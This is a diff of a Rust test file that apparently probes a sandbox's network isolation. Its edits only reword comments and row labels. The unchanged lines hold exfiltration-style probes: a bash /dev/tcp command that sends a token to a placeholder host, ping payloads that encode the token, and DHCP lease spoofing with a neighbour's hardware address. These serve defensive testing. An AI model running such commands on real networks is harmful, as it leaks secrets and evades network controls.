@@ -19,7 +19,7 @@ use crate::support::wan;
 
 const PROBE: &str = include_str!("support/probe.pl");
 
-/// The addresses and ports that attempts use.
+/// The addresses and ports used in attempts.
 struct Targets {
     own: Place,
     neighbour: Place,
@@ -37,7 +37,7 @@ struct Targets {
 }
 
 impl Targets {
-    /// Replaces the placeholders of a row. Longer placeholders are replaced first.
+    /// Replaces the placeholders of a row, longer placeholders first.
     fn fill(&self, row: &str) -> String {
         let connect = "timeout 2 bash -c \
                        'exec 3<>/dev/tcp/DENIED/443 && echo $TOKEN >&3 && head -n 1 <&3'";
@@ -152,15 +152,15 @@ impl Host {
     }
 }
 
-/// Rows `KIND | NAME | PROBE`. KIND is `open` if a pixel on an external network succeeds. PROBE
-/// is a verb with arguments; see [`Targets::fill`] for placeholders.
+/// Rows `KIND | NAME | PROBE`. KIND is `open` if a pixel without a gateway must
+/// succeed. [`Targets::fill`] replaces the placeholders in PROBE.
 const ATTEMPTS: &[&str] = &[
     // Direct connections.
     "open | a raw address | tcp DENIED 443",
     "open | a raw address, UDP | udp DENIED 4433",
     "open | a raw address, QUIC's port | udp DENIED 443",
     "open | an address that the neighbor's policy allows | tcp DENIED 80",
-    "open | the clock | udp DENIED 123",
+    "open | the time server | udp DENIED 123",
     "open | source port 22 | tcp DENIED 443 22",
     "open | source port 53 | udp DENIED 4433 53",
     "open | source port 67 | udp DENIED 68 67",
@@ -174,7 +174,7 @@ const ATTEMPTS: &[&str] = &[
     "open | SCTP | proto 132 DENIED",
     "open | an unassigned protocol | proto 253 DENIED",
     "open | a denied port of an allowed host | tcp 198.51.100.21 80",
-    // Names.
+    // DNS queries.
     "open | another resolver | dns OTHER TOKEN.other.test",
     "open | another resolver, TCP | dns OTHER TOKEN.other.test A tcp",
     "isolated | a denied name | dns GATEWAY other.test",
@@ -249,9 +249,9 @@ const ATTEMPTS: &[&str] = &[
      | sh ping -6 -c 1 -W 1 -p $(echo $TOKEN | od -An -tx1 | tr -d ' \\n' | head -c 32) \
      ff02::1%eth0 | grep -v $(cat /sys/class/net/eth0/address | cut -d: -f6) | grep 'bytes from' \
      | grep -v $(ip -6 -o addr show dev eth0 | sed 's/.*inet6 \\([^/]*\\).*/\\1/')",
-    "isolated | an IPv6 address of one's own | sh ip -6 addr add 2001:db8::5/64 dev eth0 nodad; \
+    "isolated | a self-assigned IPv6 address | sh ip -6 addr add 2001:db8::5/64 dev eth0 nodad; \
      ip -6 route add default via fe80::1 dev eth0; ping -6 -c 1 -W 1 2001:db8::1",
-    // DHCP.
+    // DHCP requests and answers.
     "isolated | a second lease | dhcp OWN_MAC 1 02:00:00:00:00:77",
     "isolated | the neighbor's lease | dhcp OWN_MAC 1 NEIGHBOUR_MAC",
     "isolated | a lease by another's hardware address | dhcp NEIGHBOUR_MAC 1 NEIGHBOUR_MAC",
